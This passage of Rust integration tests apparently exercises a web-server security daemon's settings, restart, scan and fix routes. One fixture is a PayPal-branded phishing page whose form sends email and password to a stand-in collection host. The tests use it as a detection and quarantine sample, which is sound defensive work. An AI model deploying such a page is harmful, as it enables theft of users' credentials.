        "/api/v1/settings/alerts",
        ADMIN,
        json!({ "max_per_hour": 77 }),
    );
    r.expect(200);
    let v = r.json();
    assert_eq!(v["applied"], true, "{v}");
    assert_eq!(v["restart_required"], json!([]), "{v}");
    assert_eq!(
        std::fs::metadata(&dropin).unwrap().permissions().mode() & 0o777,
        0o600
    );
    assert!(std::fs::read_to_string(&dropin)
        .unwrap()
        .contains("max_per_hour = 77"));
    let m = item(&d, "alerts", "max_per_hour");
    assert_eq!(
        (m["value"].clone(), m["set"].clone()),
        (json!(77), json!(true))
    );
    // A restart-class change is reported as such.
    let r = post(
        &d,
        "/api/v1/settings/webui.limits",
        ADMIN,
        json!({ "handshake_timeout_seconds": 12 }),
    );
    r.expect(200);
    assert_eq!(
        r.json()["restart_required"],
        json!(["webui.limits.handshake_timeout_seconds"])
    );
    // Read again at the next start.
    let d2 = restart(&mut d, &[]);
    assert_eq!(item(&d2, "alerts", "max_per_hour")["value"], 77);
    assert_eq!(
        item(&d2, "webui.limits", "handshake_timeout_seconds")["value"],
        12
    );
    // The restart route: 202, then the same process runs again with a new token.
    let before = d2.get("/api/v1/status", READ).json()["started_at_token"].clone();
    let pid = d2.pid();
    let r = post(&d2, "/api/v1/settings/restart", ADMIN, json!({}));
    r.expect(202);
    assert_eq!(r.json()["ok"], true);
    let addr = wait_until(60, "the restarted daemon's listening line", || {
        let lines: Vec<String> = d2
            .stdout()
            .into_iter()
            .filter(|l| l.contains("listening on https://"))
            .collect();
        (lines.len() >= 2).then(|| {
            let rest = lines[1].split("listening on https://").nth(1).unwrap();
            rest.split_whitespace()
                .next()
                .unwrap()
                .parse::<std::net::SocketAddr>()
                .unwrap()
        })
    });
    let after = wait_until(30, "the restarted daemon to answer", || {
        let mut c = Client::connect(addr, d2.cert());
        let r = c.send(
            "GET",
            "/api/v1/status",
            &[("Authorization", &format!("Bearer {READ}"))],
            b"",
        );
        (r.status == 200).then(|| r.json()["started_at_token"].clone())
    });
    assert_ne!(after, before);
    assert_eq!(d2.pid(), pid, "the same process, executed again");
}

/// The performance fixes, each for its own finding kind: a huge error_log emptied (owner and
/// mode kept), display_errors turned off in a site's .user.ini, and WordPress's scheduler
/// moved to the site owner's crontab.
#[test]
fn perf_fixes_empty_the_log_turn_display_errors_off_and_move_wp_cron() {
    let (d, www) = start("remedy-perf", "", &[]);
    let site = www.join("site");
    std::fs::create_dir_all(&site).unwrap();
    // uid 1 has a name on every Debian host (daemon): the crontab is named after it. The
    // site's account is the owner of its directory (the web root is root's), and login.defs
    // of the checks' root makes uid 1 a login account.
    let owner = 1u32;
    std::os::unix::fs::chown(&site, Some(owner), Some(owner)).unwrap();
    let etc = d.dir.join("fixture/etc");
    std::fs::create_dir_all(&etc).unwrap();
    std::fs::write(etc.join("login.defs"), "UID_MIN 1\n").unwrap();
    let log = site.join("error_log");
    let f = std::fs::File::create(&log).unwrap();
    f.set_len(150 * 1024 * 1024).unwrap(); // sparse: apparent size only
    drop(f);
    std::fs::set_permissions(&log, std::fs::Permissions::from_mode(0o640)).unwrap();
    let ini = site.join(".user.ini");
    std::fs::write(&ini, "memory_limit = 256M\ndisplay_errors = On\n").unwrap();
    let wp = site.join("wp-config.php");
    std::fs::write(
        &wp,
        "<?php\ndefine('DB_NAME', 'wp');\n/* That's all, stop editing! Happy publishing. */\nrequire_once ABSPATH . 'wp-settings.php';\n",
    )
    .unwrap();
    for p in [&log, &ini, &wp] {
        std::os::unix::fs::chown(p, Some(owner), Some(owner)).unwrap();
    }
    let spool = d.dir.join("fixture/var/spool/cron/crontabs");
    std::fs::create_dir_all(&spool).unwrap();
    scan(&d, "deep");
    let one = |check: &str| {
        let f = findings_of(&d, check);
        assert_eq!(f.len(), 1, "{check}: {f:?}");
        f[0]["id"].as_str().unwrap().to_string()
    };
    let (log_id, ini_id, wp_id) = (
        one("perf_error_log"),
        one("php_display_errors"),
        one("perf_cms_cron"),
    );
    // Each route fixes its own kind only.
    post_id(&d, "/api/v1/perf/fix-error-log", &ini_id).expect(400);
    post(
        &d,
        "/api/v1/perf/fix-cms-cron",
        READ,
        json!({ "id": wp_id }),
    )
    .expect(403);
    post_id(&d, "/api/v1/perf/fix-error-log", &log_id).expect(200);
    let meta = std::fs::metadata(&log).unwrap();
    assert_eq!(meta.len(), 0);
    assert_eq!(meta.permissions().mode() & 0o7777, 0o640);
    assert_eq!(std::os::unix::fs::MetadataExt::uid(&meta), owner);
    post_id(&d, "/api/v1/perf/fix-display-errors", &ini_id).expect(200);
    assert_eq!(
        std::fs::read_to_string(&ini).unwrap(),
        "memory_limit = 256M\ndisplay_errors = Off\n"
    );
    let r = post_id(&d, "/api/v1/perf/fix-cms-cron", &wp_id);
    r.expect(200);
    let text = std::fs::read_to_string(&wp).unwrap();
    assert!(text.contains("DISABLE_WP_CRON"), "{text}");
    assert!(
        text.find("DISABLE_WP_CRON").unwrap() < text.find("stop editing").unwrap(),
        "{text}"
    );
    let tab = std::fs::read_to_string(spool.join("daemon")).unwrap();
    assert!(
        tab.contains("wp-cron.php") && tab.contains(&site.display().to_string()),
        "{tab}"
    );
    let meta = std::fs::metadata(spool.join("daemon")).unwrap();
    assert_eq!(meta.permissions().mode() & 0o7777, 0o600);
    assert_eq!(std::os::unix::fs::MetadataExt::uid(&meta), owner);
    // A rescan finds none of them again.
    scan(&d, "deep");
    for c in ["perf_error_log", "php_display_errors", "perf_cms_cron"] {
        assert!(findings_of(&d, c).is_empty(), "{c}");
    }
}

/// `status.automation`: each automatic response's mode (enforce, dry run, off) and since
/// when; a restart keeps `since` of an unchanged mode, a settings change starts a new one.
#[test]
fn status_reports_the_automation_rollout_state() {
    let (mut d, _www) = start(
        "remedy-rollout",
        "[auto_response]\nquarantine = true\n",
        &[],
    );
    let modes = |d: &Daemon| -> Vec<Value> {
        d.get("/api/v1/status", READ).json()["automation"]
            .as_array()
            .cloned()
            .unwrap()
    };
    let of = |m: &[Value], name: &str| m.iter().find(|r| r["name"] == name).cloned().unwrap();
    let first = modes(&d);
    assert_eq!(of(&first, "quarantine")["mode"], "enforce");
    assert_eq!(of(&first, "threat_block")["mode"], "dry_run");
    assert_eq!(of(&first, "challenge")["mode"], "off");
    let since = of(&first, "quarantine")["since"].clone();
    assert!(since.as_str().unwrap().ends_with('Z'), "{since}");
    let d2 = restart(&mut d, &[]);
    let again = modes(&d2);
    assert_eq!(of(&again, "quarantine")["since"], since);
    post(
        &d2,
        "/api/v1/settings/auto_response",
        ADMIN,
        json!({ "quarantine": false }),
    )
    .expect(200);
    let changed = modes(&d2);
    assert_eq!(of(&changed, "quarantine")["mode"], "off");
    assert_ne!(of(&changed, "quarantine")["since"], since);
    assert_eq!(
        of(&changed, "threat_block")["since"],
        of(&first, "threat_block")["since"]
    );
}

/// `{"account": NAME}` scans that account's web roots only: its findings are refreshed
/// (new ones reported, gone ones resolved), another account's stay, `latest_scan` is not a
/// partial scan's.
#[test]
fn an_account_scan_covers_that_account_only() {
    let (d, www) = start("remedy-account", "", &[]);
    // uids 1 and 2 have names on every Debian host (daemon, bin).
    for (site, uid) in [("a", 1u32), ("b", 2u32)] {
        let dir = www.join(site);
        std::fs::create_dir_all(&dir).unwrap();
        std::os::unix::fs::chown(&dir, Some(uid), Some(uid)).unwrap();
        write_mode(&dir.join("open.php"), b"<?php", 0o666);
    }
    let full = scan(&d, "deep");
    let latest = d.get("/api/v1/status", READ).json()["latest_scan"].clone();
    assert_eq!(latest, full["finished_at"]);
    assert_eq!(findings_of(&d, "world_writable_php").len(), 2);
    std::fs::set_permissions(
        www.join("a/open.php"),
        std::fs::Permissions::from_mode(0o644),
    )
    .unwrap();
    std::fs::set_permissions(
        www.join("b/open.php"),
        std::fs::Permissions::from_mode(0o644),
    )
    .unwrap();
    write_mode(&www.join("a/new.php"), b"<?php", 0o666);
    post(
        &d,
        "/api/v1/scan-jobs",
        ADMIN,
        json!({ "account": "nosuchuser" }),
    )
    .expect(404);
    // A host kind and an account at once is two scans: refused, nothing queued (issue 35).
    let jobs = || {
        d.get("/api/v1/scan-jobs", READ).json()["items"]
            .as_array()
            .unwrap()
            .len()
    };
    let before = jobs();
    let r = post(
        &d,
        "/api/v1/scan-jobs",
        ADMIN,
        json!({ "kind": "critical", "account": "daemon" }),
    );
    r.expect(400);
    assert!(r.json()["error"].as_str().unwrap().contains("not both"));
    assert_eq!(jobs(), before);
    let r = post(
        &d,
        "/api/v1/scan-jobs",
        ADMIN,
        json!({ "account": "daemon" }),
    );
    r.expect(202);
    let id = r.json()["id"].as_i64().unwrap();
    let job = wait_until(60, "the account scan", || {
        let j = d.get(&format!("/api/v1/scan-jobs/{id}"), READ).json();
        (j["state"] == "done").then_some(j)
    });
    assert_eq!(
        (job["kind"].clone(), job["account"].clone()),
        (json!("account"), json!("daemon"))
    );
    let paths = wait_until(30, "a's old finding to be resolved", || {
        let mut p: Vec<String> = findings_of(&d, "world_writable_php")
            .iter()
            .map(|f| f["path"].as_str().unwrap().to_string())
            .collect();
        p.sort();
        (!p.contains(&www.join("a/open.php").display().to_string())).then_some(p)
    });
    assert_eq!(
        paths,
        [
            www.join("a/new.php").display().to_string(),
            www.join("b/open.php").display().to_string()
        ],
        "b's finding stays until a scan covers it"
    );
    assert_eq!(d.get("/api/v1/status", READ).json()["latest_scan"], latest);
}

const PHISHING: &str = "<html><title>PayPal</title><body><h1>Verify your account</h1><p>Your PayPal account has been limited.</p><form method=\"post\" action=\"https://collect.example/p.php\"><input name=\"email\"><input type=\"password\" name=\"password\"></form></body></html>\n";

/// `phishing_page`: a deep scan finds a brand-kit page already in a web root (no file
/// watcher), its fix quarantines it, and it restores from there.
#[test]
fn a_phishing_page_in_a_web_root_is_found_by_a_deep_scan_and_quarantined() {
    let (d, www) = start("remedy-phish", "", &[]);
    let page = www.join("site/secure/login.html");
    write_mode(&page, PHISHING.as_bytes(), 0o644);
    write_mode(&www.join("site/index.html"), b"<html>hello</html>", 0o644);
    scan(&d, "deep");
    let found = findings_of(&d, "phishing_page");
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!(found[0]["path"], page.display().to_string().as_str());
    let r = post_id(&d, "/api/v1/fix", found[0]["id"].as_str().unwrap());
    r.expect(200);
    let qid = r.json()["fixed"]["quarantine_id"]
        .as_str()
        .unwrap()
        .to_string();
    assert!(std::fs::symlink_metadata(&page).is_err(), "moved away");
    post_id(&d, "/api/v1/quarantine-restore", &qid).expect(200);
    assert_eq!(std::fs::read_to_string(&page).unwrap(), PHISHING);
}

/// `executable_in_uploads`: an ELF binary in a site's uploads is found by a deep scan and
/// quarantined by its fix; an image and a non-executable script there are not reported.
#[test]
fn an_executable_in_uploads_is_found_and_quarantined() {
    let (d, www) = start("remedy-exec", "", &[]);
    let uploads = www.join("site/wp-content/uploads/2026/01");
    let miner = uploads.join("x");
    write_mode(&miner, b"\x7fELF\x02\x01\x01\x00rest", 0o755);
    write_mode(&uploads.join("a.png"), b"\x89PNG\r\n\x1a\n", 0o644);
    write_mode(&uploads.join("note.sh"), b"#!/bin/sh\necho\n", 0o644);
    write_mode(&www.join("site/bin/tool"), b"\x7fELF\x02\x01", 0o755);
    scan(&d, "deep");
    let found = findings_of(&d, "executable_in_uploads");
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!(found[0]["path"], miner.display().to_string().as_str());
    post_id(&d, "/api/v1/fix", found[0]["id"].as_str().unwrap()).expect(200);
    assert!(std::fs::symlink_metadata(&miner).is_err(), "moved away");
}
